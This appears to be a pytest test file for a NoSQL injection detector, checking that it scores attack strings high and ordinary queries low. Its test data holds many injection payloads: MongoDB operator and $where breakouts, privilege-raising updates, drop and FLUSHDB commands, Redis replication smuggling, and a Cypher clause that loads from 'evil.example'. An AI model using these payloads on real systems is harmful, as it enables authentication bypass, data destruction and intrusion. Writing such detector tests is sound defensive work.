import pytest
from asking import asking
from lookalikes import AMBIGUOUS, PLAIN, generated

from seawall.systems.threats.detectors.nosql import DETECTOR

ask = asking(DETECTOR)

ATTACKS = (
    "user[$ne]",
    "password[$ne]=1",
    "username[$regex]=.*",
    "login[$gt]",
    "login[$nin][]=admin",
    "pass[$exists]=true",
    "$where",
    "$ne",
    "$regex",
    "a[$where]",
    "token[$lt]=~",
    '{"$gt":""}',
    '{"$ne":null}',
    '{"$where":"1==1"}',
    '{$gt: ""}',
    "{ $ne: 1 }",
    "true, $where: '1 == 1'",
    ", $where: '1 == 1'",
    "$where: '1 == 1'",
    "', $where: '1 == 1",
    "1, $where: '1 == 1'",
    "', $or: [ {}, { 'a':'a",
    "' } ], $comment:'successful MongoDB injection'",
    "db.injection.insert({success:1});",
    "db.injection.insert({success:1});return 1;db.stores.mapReduce(function() { { emit(1,1",
    "' && this.password.match(/.*/)//",
    "' && this.passwordzz.match(/.*/)//+%00",
    "|| 1==1; return true; //",
    "'; return '' == '",
    "';return true;var x='",
    "0;return true",
    "1'; return this.a != 'x' + '",
    "' || this.password != 'a",
    '"; return true; var foo = "',
    "'; sleep(5000); return true; '",
    '"} , {"password":{"$ne":"',
    "admin', $or: [ {}, {'a': 'a",
    '{"username":{"$regex":"^a"}}',
    '[{"$lookup":{"from":"users"}}]',
    "a[$eval]",
    '{"selector":{"_id":{"$gt":null}}}',
    "filter[password][$startsWith]=s3",
    "account[token][$contains]",
    "rows[$size]=2",
    "tags[$all][]=x",
    "id[$gt]=0",
    "user_id[$gte]=",
    "_id[$lt]=~",
    "login[$in][]=root",
    "a[$func]=phpinfo",
    '{"secret":{"$type":null}}',
    '{"_id":{"$gt":0}}',
    '{"owner":{"$eq":"x"},"pin":{"$in":""}}',
    '{"$set":{"isAdmin":true}}',
    '{"$unset":{"passwordHash":1}}',
    '{"$push":{"roles":"owner"}}',
    '{"user":{"$eq":"root"},"$comment":"z"}',
    '{"n":{"$type":4}}',
    'https://app.example/find?filter={"token":{"$ne":1}}',
    "db.getSiblingDB('admin')",
    "db.dropUser('x')",
    "');return JSON.stringify(this)//",
    "'; var s=Date.now(); while(Date.now()-s<9000); '",
    "'}; do { n = new Date() } while (n - t < 8000); //",
    "1; sleep(3000) || true",
    "this.token.match(/^a/)//",
    "[$gt]=",
    "user.$ne=1",
    "db['users'].drop()",
    "$where: function() { return 1; }",
    "function(){return true}",
    "function() { sleep(5000); }",
    "';while(true){};'",
)
HONEST = (
    '{"$type": "button"}',
    '{"age": {"$gt": 18}}',
    "price[$gte]",
    "filters[name][$eq]=x",
    "$limit",
    "$skip",
    "$sort[createdAt]",
    "$5.00",
    "US$ 10: cheap",
    '{"$ref":"#/a"}',
    "this.state.foo is undefined",
    "return this.x;",
    "function f() { return this.name; }",
    "I'd return it; can't",
    "price[$gte]=0",
    "_id[$gt]=665f0a1b2c3d4e5f6a7b8c9d",
    "filters[email][$eq]=a@b.example",
    "filters[user][age][$gt]=3",
    "where[title][$contains]=a",
    '{"status":{"$in":["open","held"]},"total":{"$gte":10,"$lt":50}}',
    '{"createdAt":{"$gte":"2024-01-01T00:00:00Z"}}',
    '{"removedAt":{"$ne":null}}',
    '{"archived":{"$ne":true}}',
    '{"stock":{"$ne":0}}',
    '{"ownerId":{"$in":["64b0","64b1"]}}',
    '{"email":{"$in":["a@b.example","c@d.example"]}}',
    '{"name":{"$regex":"^O","$options":"i"}}',
    '[{"$match":{"status":"open"}},{"$group":{"_id":"$owner","n":{"$sum":1}}}]',
    '{"$set":{"title":"x","tags":["a"]}}',
    '{"$schema":"https://json-schema.org/draft/2020-12/schema","$comment":"sizes"}',
    '{"and":[{">":[{"var":"age"},17]}]}',
    '{"$or":[{"name":"a"},{"city":"b"}]}',
    'https://app.example/graph?expr={"status":{"$in":["x","y"]},"price":{"$gte":3}}',
    "while (i < 1000) { i++ }",
    "new Date().getFullYear()",
    "function(x) { return x.name }",
    "while (running) { step() }",
    "$or[0][name]=a",
    "cost.$5",
)

OTHER_STORES = (
    ("k\r\nFLUSHDB\r\n", "nosql-command"),
    ("\nCONFIG GET requirepass\n", "nosql-command"),
    ("x\r\nSLAVEOF 192.0.2.7 6379\r\nPING", "nosql-command"),
    ("x\n*2\r\n$4\r\nKEYS\r\n", "nosql-command"),
    ("x\r\nset session:1 0 60 4\r\nroot\r\n", "nosql-command"),
    ("x\r\nstats cachedump 1 100\r\n", "nosql-command"),
    ("'}) RETURN m //", "nosql-clause"),
    ("x' OR true RETURN u.mail //", "nosql-clause"),
    ("a'}) MATCH (m:Secret) RETURN m", "nosql-clause"),
    ("') CALL apoc.load.json('//evil.example') YIELD value RETURN value", "nosql-clause"),
    ("' LOAD CSV WITH HEADERS FROM 'file:///x' AS r RETURN r", "nosql-clause"),
    ("7} DETACH DELETE n", "nosql-clause"),
    ("x') AND role = 'a' ALLOW FILTERING", "nosql-clause"),
    ("' FOR d IN accounts RETURN d", "nosql-clause"),
    ('"} UNION { ?a ?b ?c }', "nosql-clause"),
)
QUERIES = (
    "MATCH (a:Person {name: 'x'})-[:KNOWS]->(b) RETURN a.name, b.name LIMIT 25",
    "LOAD CSV WITH HEADERS FROM 'https://data.example/a.csv' AS row RETURN row",
    "SELECT * FROM t WHERE a = 'x' ALLOW FILTERING",
    "SELECT ?x WHERE { { ?x a :A } UNION { ?x a :B } }",
    "if (x) return y; // done",
    "for (const u of users) { return u }",
    "Please restart the cache,\nthen run this and tell me what it says:\nCONFIG GET maxmemory\nThanks for your help",
    "Then he said to me 'return it // or else' and left",
    "shopping list:\nset of plates\nkeys for the car\n",
)


@pytest.mark.parametrize(("text", "rule"), OTHER_STORES)
def test_commands_and_clauses_of_other_stores_are_found(text, rule):
    found, sure = ask(text)
    assert found == rule
    assert sure >= 0.75


@pytest.mark.parametrize("text", QUERIES)
def test_queries_that_break_out_of_nothing_stay_in_doubt(text):
    assert ask(text)[1] < 0.7


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_found(text):
    assert ask(text)[1] >= 0.75


def test_honest_values_stay_below_ambiguous():
    assert [text for text in HONEST + PLAIN if ask(text)[1] >= 0.6] == []


def test_what_people_paste_stays_below_sure():
    assert [text for text in AMBIGUOUS if ask(text)[1] >= 0.75] == []


def test_honest_values_as_they_come_are_not_flagged():
    assert [text for text in generated(1_000, seed=5) if ask(text)[1] >= 0.6] == []


@pytest.mark.parametrize(
    "text",
    [
        "filter[where][passwordHash][like]",
        "where[resetToken][startsWith]",
        "password[ne]",
        "where[isAdmin][gt]",
        "login[regex]",
        '{"apiKey": {"startsWith": "a"}}',
        '{"password": {"not": ""}}',
        "list[$or][0][role]",
        "stock[$lt]=99999",
        "stock[$gt]=-1",
        '{"$or": [{"a": "b"}, {"x": "x"}]}',
        '{"$or": [{}, {"a": 1}]}',
        '{"$and": [{"a": {"$ne": 0}}, {"b": {"$ne": 0}}]}',
        '{"$rename": {"a": "b"}}',
        '{"nr": "1", "token": {"$gte": 0}}',
        '{\\"$ne\\":null}',
        "function(){return this.rank == 'x'}",
        "function(d){emit(d._id, d)}",
        "this.rank=='x'",
        "Object.keys(this)[0].length",
        "tojson(this)",
        "FLUSHDB",
        "CONFIG SET dir /srv",
        "REPLICAOF 192.0.2.1 6379",
        'EVAL "return 1" 0',
        "return redis.call('get', 'a')",
        "g.V().drop()",
        "FOR a IN accounts RETURN a",
        "' || true RETURN a//",
        "{!xmlparser v='a'}",
        "ctx._source.is_admin = true",
        "password:a*",
        '{"$or": [{"a": 5}, {"a": {"$ne": 5}}]}',
        "function() { var a = new Date(); do { b = new Date(); } while (b - a < 9000); return 1; }",
        "'} || 5==5 //",
        "'}) && 'x'=='x",
    ],
)
def test_further_words_and_stores_are_found(text):
    assert ask(text)[1] >= 0.75


@pytest.mark.parametrize(
    "text",
    [
        "user[password_confirmation]",
        "filter[name][contains]",
        "price[gte]",
        "price[$gte]=0",
        "pin[city]",
        "tokens[gte]",
        '{"compass": {"in": ["n"]}, "spin": {"gt": 1}}',
        '{"hashtag": {"startsWith": "#a"}}',
        '{"$or": [{"name": "Ann"}, {"city": "Bonn"}]}',
        '{"total_tokens": {"$gte": 1000}}',
        '{"deleted": {"$ne": true}, "status": {"$ne": 0}}',
        "function add(a, b) { return a + b; }",
        "config set up done",
        "KEYS TO SUCCESS",
        "the redis call failed",
        "For each user in users return a message",
        "ctx._source.price = 3",
        "my password:* hidden",
    ],
)
def test_what_filters_and_people_say_stays_in_doubt(text):
    assert ask(text)[1] < 0.7
